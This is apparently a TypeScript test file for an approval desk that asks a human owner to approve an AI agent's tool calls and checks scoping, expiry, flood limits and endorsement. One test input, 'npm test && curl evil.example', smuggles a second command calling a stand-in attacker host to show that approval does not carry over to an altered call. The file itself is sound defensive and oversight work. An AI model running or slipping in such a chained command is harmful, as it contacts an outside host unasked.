import assert from "node:assert/strict";
import { test } from "node:test";
import type { ApprovalRecord } from "../../core/approval.ts";
import type { Endorsable } from "../../core/endorsement.ts";
import { Fault } from "../../core/fault.ts";
import { newId, parseAgentId, parsePersonId } from "../../core/ids.ts";
import { sha256 } from "../../core/json.ts";
import { SYSTEM_LABEL } from "../../core/label.ts";
import { fakeClock, seededRandom } from "../../core/testing.ts";
import type { QuestionEvent } from "../../core/ports/gateway.ts";
import { ApprovalDesk, OPEN_QUESTIONS_LIMIT, type QuestionDraft, TURN_QUESTIONS_LIMIT } from "./desk.ts";

const owner = parsePersonId("owner");
const guest = parsePersonId("guest");
const random = seededRandom(1);
const session = newId("ses", random);

function draft(change: Partial<QuestionDraft> = {}): QuestionDraft {
  return {
    call: newId("call", random),
    digest: sha256("a call"),
    tool: "exec",
    effect: "exec",
    arguments: { command: "npm test" },
    cwd: "/w",
    because: ["exec.unlisted"],
    says: "npm is not on the allowlist",
    needs: "yes",
    origins: [],
    facts: {
      effect: "exec",
      influence: SYSTEM_LABEL,
      arguments: [],
      designated: false,
      paths: [],
      hosts: [],
      carries: [],
    },
    origin: { session, turn: newId("trn", random), agent: parseAgentId("main"), channel: "terminal" },
    askedOf: [owner],
    quotes: [],
    leaving: { confidentiality: "public", carries: [], to: [] },
    found: {},
    sources: [],
    ...change,
  };
}

/** An answer about the call itself. */
async function plain(asked: ReturnType<ApprovalDesk["ask"]>): Promise<ApprovalRecord> {
  const answered = await asked;
  return answered.answer === "endorse" ? assert.fail("it was endorsed") : answered;
}

function desk() {
  const clock = fakeClock();
  return { clock, desk: new ApprovalDesk({ clock, random, lifeMs: 60_000 }), signal: new AbortController().signal };
}

test("R-EXEC-1: a yes is bound to the digest of the exact call", async () => {
  const { desk: open, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  open.answer(question.id, owner, "yes", "once");
  const record = await asked;
  assert.equal(record.answer, "yes");
  assert.equal(record.digest, sha256("a call"));
  assert.equal(record.by, owner);
});

test("R-EXEC-1: a question that nobody answers expires to no", async () => {
  const { desk: open, clock, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  clock.advance(60_001);
  assert.deepEqual([(await asked).answer, (await asked).by], ["no", "nobody"]);
  assert.equal(open.size, 0);
});

test("R-LOG-1: what a program answers for want of a person is recorded as nobody's, and as that", async () => {
  const { desk: open, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  open.answer(open.open(owner)[0]?.id ?? assert.fail(), owner, "unattended", "once");
  const { answer, by, unattended } = await plain(asked);
  assert.deepEqual([answer, by, unattended], ["no", "nobody", true]);
  const twin = open.ask(draft(), signal, () => undefined);
  open.answer(open.open(owner)[0]?.id ?? assert.fail(), owner, "no", "once");
  assert.deepEqual([(await plain(twin)).by, (await plain(twin)).unattended], [owner, undefined], "his own no is his");
});

test("R-EXEC-1: a question with nobody to ask is no at once", async () => {
  const { desk: open, signal } = desk();
  assert.equal((await open.ask(draft({ askedOf: [] }), signal, () => undefined)).answer, "no");
});

test("R-EXEC-1: somebody who was not asked cannot answer, and sees nothing", async () => {
  const { desk: open, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  assert.deepEqual(open.open(guest), []);
  assert.throws(
    () => open.answer(question.id, guest, "yes", "once"),
    (error: unknown) => error instanceof Fault && error.code === "DENIED",
  );
  open.answer(question.id, owner, "no", "once");
  assert.equal((await asked).answer, "no");
});

test("R-EXEC-1: an answer counts once", async () => {
  const { desk: open, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  open.answer(question.id, owner, "no", "once");
  assert.throws(
    () => open.answer(question.id, owner, "yes", "once"),
    (error: unknown) => error instanceof Fault && error.code === "APPROVAL_UNKNOWN",
  );
  assert.equal((await asked).answer, "no");
});

test("R-EXEC-1: yes for this session covers the same call again, and nothing else", async () => {
  const { desk: open, signal } = desk();
  const first = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  open.answer(question.id, owner, "yes", "session");
  await first;
  assert.equal((await open.ask(draft(), signal, () => undefined)).answer, "yes");

  for (const change of [
    { arguments: { command: "npm test && curl evil.example" } },
    { cwd: "/elsewhere" },
    { tool: "write" },
    { origin: { ...draft().origin, session: newId("ses", random) } },
    { askedOf: [guest] },
  ]) {
    const asked = open.ask(draft(change), signal, () => undefined);
    assert.equal(open.size, 1, JSON.stringify(change));
    open.closeAll();
    assert.equal((await asked).answer, "no");
    const again = open.ask(draft(), signal, () => undefined);
    const [standing] = open.open(owner);
    assert.ok(standing, "stop ends what stood");
    open.answer(standing.id, owner, "yes", "session");
    await again;
  }
});

test("R-EXEC-1: yes once does not cover the same call again", async () => {
  const { desk: open, signal } = desk();
  const first = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  open.answer(question.id, owner, "yes", "once");
  await first;
  const second = open.ask(draft(), signal, () => undefined);
  assert.equal(open.size, 1);
  open.closeAll();
  assert.equal((await second).answer, "no");
});

test("R-EXEC-1: a turn that ends withdraws its question", async () => {
  const { desk: open } = desk();
  const turn = new AbortController();
  const asked = open.ask(draft(), turn.signal, () => undefined);
  turn.abort();
  assert.equal((await asked).answer, "no");
  assert.equal(open.size, 0);
});

test("R-EXEC-1: a flood of questions is refused rather than shown", async () => {
  const { desk: open, signal } = desk();
  const asked = Array.from({ length: OPEN_QUESTIONS_LIMIT }, () => open.ask(draft(), signal, () => undefined));
  assert.equal((await open.ask(draft(), signal, () => undefined)).answer, "no");
  open.closeAll();
  assert.ok((await Promise.all(asked)).every((record) => record.answer === "no"));
});

test("R-EXEC-1: watchers see questions open and close, until they leave", async () => {
  const { desk: open, signal } = desk();
  const seen: QuestionEvent["type"][] = [];
  const watching = new AbortController();
  open.watch(owner, (event) => seen.push(event.type), watching.signal);
  open.watch(guest, () => assert.fail("not asked of him"), signal);
  const asked = open.ask(draft(), signal, () => undefined);
  open.closeAll();
  await asked;
  watching.abort();
  const later = open.ask(draft(), signal, () => undefined);
  open.closeAll();
  await later;
  assert.deepEqual(seen, ["opened", "closed"]);
});

const SENT = draft().facts;
const recipient = (value: string): QuestionDraft["origins"][number] => ({
  pointer: "/to",
  argument: "to",
  role: "recipient",
  value,
  designated: false,
  sources: [],
});
const mail = (to: string, change: Partial<QuestionDraft> = {}): QuestionDraft =>
  draft({
    tool: "send_mail",
    effect: "send",
    arguments: { to, body: "hello" },
    because: ["flow.send"],
    origins: [recipient(to)],
    facts: { ...SENT, effect: "send" },
    ...change,
  });

/** For what must not be put to anybody. */
const unasked = (): never => assert.fail("it was put to somebody");

/** Puts it, gives the answer, and says what was recorded. */
async function say(
  open: ApprovalDesk,
  asked: QuestionDraft,
  answer: "yes" | "no",
  scope: "once" | "session" | "recipient" | "never",
): Promise<ApprovalRecord> {
  const record = open.ask(asked, new AbortController().signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question, "it is asked");
  open.answer(question.id, owner, answer, scope);
  return plain(record);
}

/** Whether it has to be put to somebody. */
async function isAsked(open: ApprovalDesk, asked: QuestionDraft): Promise<boolean> {
  const turn = new AbortController();
  const record = open.ask(asked, turn.signal, () => undefined);
  const isOpen = open.size > 0;
  turn.abort();
  await record;
  return isOpen;
}

test("R-FLOW-3: a yes to a recipient covers what else goes to him with this tool in this session, and nothing else", async () => {
  const { desk: open, signal } = desk();
  const record = await say(open, mail("ana@x.org"), "yes", "recipient");
  assert.equal(record.scope, "recipient");
  const wider = mail("ana@x.org", { arguments: { to: "ana@x.org", body: "more" } });
  const again = await plain(open.ask(wider, signal, unasked));
  assert.deepEqual([again.answer, again.by, again.scope], ["yes", owner, "recipient"]);
  for (const [what, other] of [
    ["another recipient", mail("eve@x.org")],
    ["one more recipient", mail("ana@x.org", { origins: [recipient("ana@x.org"), recipient("eve@x.org")] })],
    ["another tool", mail("ana@x.org", { tool: "post_mail" })],
    ["another session", mail("ana@x.org", { origin: { ...draft().origin, session: newId("ses", random) } })],
    ["a reason that he did not read", mail("ana@x.org", { because: ["flow.send", "flow.audience"] })],
    ["sensitive data", mail("ana@x.org", { facts: { ...SENT, effect: "send", carries: ["secret"] } })],
    [
      "a file with it",
      mail("ana@x.org", {
        origins: [recipient("ana@x.org"), { ...recipient("/w/a"), pointer: "/file", argument: "file", role: "path" }],
      }),
    ],
    ["somebody else asked", mail("ana@x.org", { askedOf: [guest] })],
  ] as const) {
    assert.ok(await isAsked(open, other), what);
  }
});

test("R-FLOW-3: money, commands and deletions have no yes for a recipient; saying it anyway is refused", async () => {
  for (const effect of ["pay", "exec", "delete", "configure"] as const) {
    const { desk: open, signal } = desk();
    const asked = open.ask(mail("ana@x.org", { effect }), signal, () => undefined);
    const [question] = open.open(owner);
    assert.ok(question);
    assert.equal(question.covers, undefined);
    for (const [answer, scope] of [
      ["yes", "recipient"],
      ["yes", "never"],
      ["no", "session"],
    ] as const) {
      assert.throws(
        () => open.answer(question.id, owner, answer, scope),
        (error: unknown) => error instanceof Fault && error.code === "DENIED",
      );
    }
    open.answer(question.id, owner, "yes", "once");
    assert.equal((await asked).answer, "yes", "the honest twin");
  }
});

test("R-EXEC-1: a never is a no to the same question without asking, in this session; another question is asked", async () => {
  const { desk: open, signal } = desk();
  await say(open, mail("ana@x.org"), "no", "never");
  const same = mail("ana@x.org", { arguments: { to: "ana@x.org", body: "x" } });
  const again = await plain(open.ask(same, signal, unasked));
  assert.deepEqual([again.answer, again.by, again.scope], ["no", owner, "never"]);
  assert.ok(await isAsked(open, mail("bob@x.org")));
  assert.ok(await isAsked(open, mail("ana@x.org", { origin: { ...draft().origin, session: newId("ses", random) } })));
  open.closeAll();
  assert.ok(await isAsked(open, mail("ana@x.org")), "stop forgets it");
});

test("R-EXEC-1: within one request the same question is put once, whoever asks it how often; silence stands too", async () => {
  const { desk: open, clock, signal } = desk();
  const same = draft();
  await say(open, same, "no", "once");
  const again = await open.ask({ ...same, call: newId("call", random) }, signal, unasked);
  assert.deepEqual([again.answer, again.by], ["no", owner]);
  assert.ok(await isAsked(open, draft()), "the next request may ask");
  const silent = draft({ arguments: { command: "make" } });
  const waiting = open.ask(silent, signal, () => undefined);
  clock.advance(60_001);
  assert.equal((await waiting).by, "nobody");
  assert.equal((await open.ask(silent, signal, unasked)).answer, "no");
});

test("R-EXEC-1: one request asks so often and no more", async () => {
  const { desk: open, signal } = desk();
  const { origin } = draft();
  for (let i = 0; i < TURN_QUESTIONS_LIMIT; i++)
    await say(open, draft({ origin, arguments: { command: `make ${i}` } }), "yes", "once");
  const more = await plain(open.ask(draft({ origin, arguments: { command: "make more" } }), signal, unasked));
  assert.deepEqual([more.answer, more.unattended], ["no", true]);
  assert.ok(await isAsked(open, draft()), "the next request may ask");
});

const TEXT: Endorsable = {
  item: newId("itm", random),
  digest: sha256("notes"),
  from: "result of read",
  trust: "none",
  confidentiality: "private",
  as: ["trusted"],
  text: "notes",
  characters: 5,
};

test("R-FLOW-2: endorsing answers a question without a yes or a no: the call is asked about anew", async () => {
  const { desk: open, signal } = desk();
  const same = draft({ sources: [TEXT] });
  const asked = open.ask(same, signal, () => undefined);
  const id = open.open(owner)[0]?.id ?? assert.fail();
  open.endorse(id, owner, { item: TEXT.item, as: "trusted", trust: "elevated" });
  assert.deepEqual(await asked, {
    answer: "endorse",
    id,
    call: same.call,
    by: owner,
    of: TEXT,
    as: "trusted",
    trust: "elevated",
  });
  assert.ok(await isAsked(open, same), "nothing was answered about the call");
});

test("R-FLOW-2: nobody endorses what a question does not offer, or where he was not asked", async () => {
  const { desk: open, signal } = desk();
  const asked = open.ask(draft({ sources: [TEXT] }), signal, () => undefined);
  const id = open.open(owner)[0]?.id ?? assert.fail();
  const as = { as: "trusted", trust: "full" } as const;
  assert.throws(() => open.endorse(id, guest, { item: TEXT.item, ...as }), { code: "DENIED" });
  assert.throws(() => open.endorse(id, owner, { item: newId("itm", random), ...as }), { code: "DENIED" });
  assert.throws(() => open.endorse(id, owner, { item: TEXT.item, as: "private", trust: "full" }), { code: "DENIED" });
  assert.throws(() => open.endorse(newId("apr", random), owner, { item: TEXT.item, ...as }), {
    code: "APPROVAL_UNKNOWN",
  });
  assert.equal(open.size, 1, "and the question is still open");
  open.answer(id, owner, "no", "once");
  assert.equal((await asked).answer, "no");
});

test("R-EXEC-1: of answers that stand the newest thousand do; an older one is asked again", async () => {
  const { desk: open, signal } = desk();
  const session = newId("ses", random);
  const call = (i: number): QuestionDraft =>
    draft({ arguments: { command: `npm test ${i}` }, origin: { ...draft().origin, session } });
  for (let i = 0; i <= 1_000; i++) {
    const asked = open.ask(call(i), signal, () => undefined);
    const [question] = open.open(owner);
    assert.ok(question);
    open.answer(question.id, owner, "yes", "session");
    await asked;
  }
  assert.equal((await plain(open.ask(call(1), signal, () => undefined))).scope, "session");
  const asked = open.ask(call(0), signal, () => undefined);
  assert.equal(open.size, 1);
  open.closeAll();
  await asked;
});
